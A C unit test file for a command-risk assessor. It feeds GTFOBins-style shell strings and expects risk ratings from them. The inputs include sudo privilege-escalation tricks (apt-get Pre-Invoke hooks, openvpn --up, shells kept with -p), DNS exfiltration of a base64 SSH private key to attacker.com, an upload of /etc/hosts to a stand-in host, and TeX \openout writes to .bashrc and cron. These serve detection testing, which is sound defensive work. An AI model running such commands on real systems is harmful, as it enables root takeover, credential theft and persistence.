/* test_gtfo_intent.c -- issue #13, the families of the GTFOBins held-out rows
 * (group gtfobins-rest): a privileged wrapper around a wrapper with nothing to
 * run, shells whose stdin is a terminal, routine administration that runs the
 * caller's code as root, programs whose options write files, load libraries or
 * run commands (table entries), a variable set from a command's output used in
 * a host or URL, a program from outside run through a wrapper, and TeX
 * \openout writes.  Positive cases, near misses that must stay low or medium,
 * and hostile spellings (quoting, =-joined options, paths through variables). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "broker/intent/assess.h"
#include "broker/intent/tables.h"

#include "intent_check.h"

/* sudo WRAPPER with nothing after it: the wrapper runs with root's rights */
static void
test_priv_bare_wrapper(void **state)
{
	static const struct icase c[] = {
		{ "sudo xargs -a /path/to/input-file -0", "critical", "priv-root" },
		{ "sudo xargs", "critical", "priv-root" },
		{ "sudo 'xargs' -0", "critical", "priv-root" },
		{ "doas xargs -a /etc/shadow", "critical", NULL },
		{ "sudo timeout 5", "critical", "priv-root" },
		{ "sudo -u www-data xargs -a f", "high+", "priv-user" },
		{ "sudo systemd-run -S", "critical", "priv-shell" },
		{ "sudo systemd-run --shell", "critical", "priv-shell" },
		{ "systemd-run --shell", "high", "shell-interactive" },
		{ "sudo -l", "low", NULL },
		{ "xargs -a list.txt -0", "low", NULL },
		{ "timeout 5 ls", "low", NULL },
	};

	(void)state;
	CHECK(c);
}

/* a shell reading a terminal device is interactive */
static void
test_tty_shell(void **state)
{
	static const struct icase c[] = {
		{ "nohup /bin/sh -c '/bin/sh </dev/tty >/dev/tty 2>/dev/tty'", "high", "shell-interactive" },
		{ "/bin/sh </dev/tty", "high", "shell-interactive" },
		{ "sh 0</dev/pts/3", "high", "shell-interactive" },
		{ "bash </dev/console", "high", "shell-interactive" },
		{ "sudo sh </dev/tty", "critical", NULL },
		{ "sh < install.sh", "low", NULL },
		{ "sh </dev/ttyx", "high", NULL },
		{ "cat </dev/tty", "low", NULL },
		{ "echo x | xargs -o -a /dev/null /bin/sh", "high", "shell-interactive" },
		{ "xargs --open-tty bash", "high", "shell-interactive" },
		{ "xargs -0o sh", "high", "shell-interactive" },
		{ "find . -name '*.c' | xargs grep foo", "low", NULL },
		{ "ls | xargs -r echo", "low", NULL },
	};

	(void)state;
	CHECK(c);
}

/* routine administration as root that runs the caller's code */
static void
test_priv_routine(void **state)
{
	static const struct icase c[] = {
		{ "sudo apt-get update -o APT::Update::Pre-Invoke::=/bin/sh", "critical", "priv-high" },
		{ "sudo apt-get update -o 'APT::Update::Pre-Invoke::=sh -c id'", "critical", "priv-high" },
		{ "sudo rpm --eval '%(/bin/sh 1>&2)'", "critical", "priv-high" },
		{ "sudo service ../../bin/sh", "critical", "priv-high" },
		{ "sudo dpkg -i x_1.0_all.deb", "critical", "priv-high" },
		{ "sudo yum install http://attacker.com/x.rpm", "critical", "priv-high" },
		{ "sudo openvpn --dev null --script-security 2 --up '/bin/sh -s'", "critical", "priv-high" },
		{ "apt-get update -o 'APT::Update::Pre-Invoke::=sh -c id'", "high", "runs-hook" },
		{ "apt-get -o DPkg::Post-Invoke::=/tmp/x install sl", "high", "runs-hook" },
		{ "apt-get update -o Acquire::Retries=3", "low", NULL },
		{ "sudo apt-get update", "high", "priv-routine" },
		{ "sudo apt-get install curl", "high", "priv-routine" },
		{ "sudo systemctl restart nginx", "high", "priv-routine" },
		{ "sudo reboot", "high", "priv-routine" },
		{ "sudo shutdown now", "high", NULL },
	};

	(void)state;
	CHECK(c);
}

/* table entries: what these programs' options and commands do */
static void
test_programs(void **state)
{
	static const struct icase c[] = {
		{ "R --no-save -e 'system(\"/bin/sh\")'", "high+", "code-shell" },
		{ "R -e 'unlink(\"/home/dev/.bashrc\")'", "high+", NULL },
		{ "R -e 'summary(1:10)'", "low", NULL },
		{ "R --no-save", "high", "repl-interactive" },
		{ "fzf --bind 'enter:execute(/bin/sh)'", "high", "runs-hook" },
		{ "fzf '--bind=ctrl-x:become(sh)'", "high", "runs-hook" },
		{ "fzf --preview 'cat {}'", "low", NULL },
		{ "mypy /path/to/input-file --junit-xml /path/to/output-file", "high", "write:outside" },
		{ "mypy --junit-xml=/etc/x src", "high+", NULL },
		{ "mypy src --junit-xml report.xml", "low", NULL },
		{ "screen -L -Logfile /path/to/output-file echo DATA", "high", "write:outside" },
		{ "screen -L -Logfile screen.log make", "low", NULL },
		{ "dmidecode --dump-bin /path/to/output-file", "high", "write:outside" },
		{ "dmidecode -t memory", "low", NULL },
		{ "check_log -F /path/to/input-file -O /path/to/output-file", "high", "write:outside" },
		{ "dc -e '!/bin/sh'", "high", "shell-interactive" },
		{ "echo '!sh' | dc", "high", NULL },
		{ "dc -e '2 3 + p'", "low", NULL },
		{ "ssh-keygen -D /path/to/lib.so", "high", "runs-lib" },
		{ "ssh-add -s /tmp/p11.so", "high", "runs-lib" },
		{ "ssh -I /tmp/p11.so host", "high+", "runs-lib" },
		{ "rc", "high", "shell-interactive" },
		{ "sash", "high", "shell-interactive" },
		{ "ranger", "high", "repl-interactive" },
		{ "minicom -D /dev/null", "high", "repl-interactive" },
		{ "ansible-test shell", "high", "repl-interactive" },
		{ "pic -U", "high", "runs-shell-escape" },
		{ "pic diagram.pic", "low", NULL },
		{ "history -w /path/to/output-file", "high", "write:outside" },
		{ "history 20", "low", NULL },
		{ "node -e 'require(\"fs\").createReadStream(\"/etc/hosts\").pipe(require(\"http\").request(\"http://x.example/\"))'",
		    "high", "code-upload" },
		{ "node -e 'require(\"https\").get(\"https://x.example/\")'", "medium", "code-network" },
		{ "julia -e 'download(\"http://x.example/f\", \"/path/to/output-file\")'", "high", "write:outside" },
		{ "julia -e 'download(\"https://x.example/data.csv\", \"data.csv\")'", "medium", "code-network" },
		{ "node -e 'console.log(require(\"fs\").readFileSync(\"package.json\",\"utf8\"))'", "low", NULL },
	};

	(void)state;
	CHECK(c);
}

/* a variable holding a command's output, in a host name or a URL */
static void
test_var_exfil(void **state)
{
	static const struct icase c[] = {
		{ "D=$(whoami); nslookup $D.x.com", "high", "dns-exfil" },
		{ "D=`id -u`\ndig $D.attacker.com", "high", "dns-exfil" },
		{ "D=\"$(hostname)\"; host \"$D.x.example\"", "high", "dns-exfil" },
		{ "D=$(whoami); curl https://x.com/$D", "high", "url-exfil" },
		{ "D=$(whoami); wget \"https://x.com/?u=${D}\"", "high", "url-exfil" },
		{ "D=$(cat ~/.ssh/id_rsa|base64); nslookup $D.x.com", "critical", "exfiltrate" },
		{ "V=1.2.3; curl -O https://example.com/v$V/x.tgz", "medium", NULL },
		{ "H=$(hostname); ping -c1 $H", "low", NULL },
		{ "IP=$(minikube ip); curl http://$IP:8080/", "medium", NULL },
	};

	(void)state;
	CHECK(c);
}

/* a program from outside run through a wrapper */
static void
test_wrap_outside(void **state)
{
	static const struct icase c[] = {
		{ "nohup /path/to/command", "high", "wrap-run-outside" },
		{ "nohup /path/to/command\ncat nohup.out", "high", "wrap-run-outside" },
		{ "setsid /path/to/command", "high", "wrap-run-outside" },
		{ "stdbuf -o0 /path/to/command", "high", "wrap-run-outside" },
		{ "nice /tmp/x", "high", "wrap-run-outside" },
		{ "C=/path/to/command; nohup \"$C\"", "high", "wrap-run-outside" },
		{ "xargs -a f /path/to/command", "high", "wrap-run-outside" },
		{ "sudo nohup /path/to/command", "critical", NULL },
		{ "/path/to/command", "medium", "run:outside" },
		{ "nohup ./build.sh", "low", NULL },
		{ "nohup /usr/bin/python3 app.py", "low", NULL },
		{ "nohup /home/dev/proj/bin/server", "low", NULL },
		{ "nice ~/.cargo/bin/cargo build", "medium", NULL },
	};

	(void)state;
	CHECK(c);
}

/* a shell kept privileged (-p) with words between, typed after !, or run by
 * ip netns exec; root's rights through sg or unshare; routine programs given
 * the caller's files as root */
static void
test_priv_keep(void **state)
{
	static const struct icase c[] = {
		{ "start-stop-daemon -S -x /bin/sh -- -p", "critical", "shell-priv" },
		{ "logsave /dev/null /bin/sh -i -p", "critical", "shell-priv" },
		{ "choom -n 0 -- /bin/bash -ip", "critical", "shell-priv" },
		{ "ispell /etc/hosts\n!/bin/sh -p", "critical", "shell-priv" },
		{ "ip netns exec foo /bin/sh -p", "critical", "shell-priv" },
		{ "ip netns exec foo /bin/sh", "high", "shell-interactive" },
		{ "vi -c ':set shell=/bin/sh\\ -p | shell'", "critical", NULL },
		{ "ip netns list", "low", NULL },
		{ "ip netns exec foo ls", "medium", NULL },
		{ "logsave out.log make -j4", "medium", NULL },
		{ "!ls -p", "high", "bang-escape" },
		{ "sudo sg root", "critical", "priv-shell" },
		{ "sudo unshare /bin/sh", "critical", NULL },
		{ "sg docker", "high", "priv-group" },
		{ "unshare -r /bin/sh", "high", NULL },
		{ "sudo dmesg -rF /path/to/input-file", "critical", "priv-high" },
		{ "sudo logrotate /path/to/input-file", "critical", "priv-high" },
		{ "sudo openvpn --config /path/to/input-file", "critical", "priv-high" },
		{ "sudo openvpn --dev null --up '/tmp/x'", "critical", "priv-high" },
		{ "openvpn --config client.ovpn", "medium", NULL },
		{ "csh -b", "critical", "shell-priv" },
		{ "tcsh -bc 'echo x >/path/to/output-file'", "critical", "shell-priv" },
		{ "csh -c 'ls'", "low", NULL },
		{ "bash -b", "high", NULL },
		{ "sudo dmesg", "high", "priv-routine" },
		{ "sudo logrotate /etc/logrotate.conf", "high", "priv-routine" },
		{ "sudo openvpn --config ./client.ovpn", "high", "priv-routine" },
	};

	(void)state;
	CHECK(c);
}

/* TeX \openout */
static void
test_tex_openout(void **state)
{
	static const struct icase c[] = {
		{ "pdflatex '\\immediate\\openout\\f=/home/dev/.bashrc\\immediate\\write\\f{id}\\closeout\\f'", "high",
		    "overwrite:persistence" },
		{ "tex '\\openout3 /etc/cron.d/x \\write3{* * * * * root id}\\bye'", "high", NULL },
		{ "pdftex '\\openout\\h{/home/dev/.profile}\\write\\h{x}\\bye'", "high", NULL },
		{ "echo '\\openout\\f = /home/dev/.profile' | tex", "high", NULL },
		{ "xelatex \"\\\\openout\\\\f=/etc/x \\\\bye\"", "high+", NULL },
		{ "pdflatex '\\immediate\\openout\\f=out.txt\\write\\f{a}\\bye'", "medium", NULL },
		{ "pdflatex '\\openout\\f=\\jobname.aux'", "medium", NULL },
		{ "pdflatex main.tex", "medium", NULL },
	};

	(void)state;
	CHECK(c);
}

static struct tables *
load(const char *name, const char *text, char *err, size_t errlen)
{
	return tables_load_mem(&name, &text, 1, "/home/dev", err, errlen);
}

static void
test_wfile_table(void **state)
{
	char err[256];
	struct tables *t;
	size_t n;
	const struct runspec *const *r;

	(void)state;
	t = load("runs", "zz - \"wfile=\\openout,\\immediate\\openout\"\n", err, sizeof err);
	assert_non_null(t);
	r = tables_runs(t, "zz", &n);
	assert_non_null(r);
	assert_int_equal(r[n - 1]->wfile.n, 2);
	tables_free(t);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_priv_bare_wrapper),
		cmocka_unit_test(test_tty_shell),
		cmocka_unit_test(test_priv_routine),
		cmocka_unit_test(test_programs),
		cmocka_unit_test(test_var_exfil),
		cmocka_unit_test(test_wrap_outside),
		cmocka_unit_test(test_priv_keep),
		cmocka_unit_test(test_tex_openout),
		cmocka_unit_test(test_wfile_table),
	};

	return cmocka_run_group_tests(tests, intent_setup, intent_teardown);
}
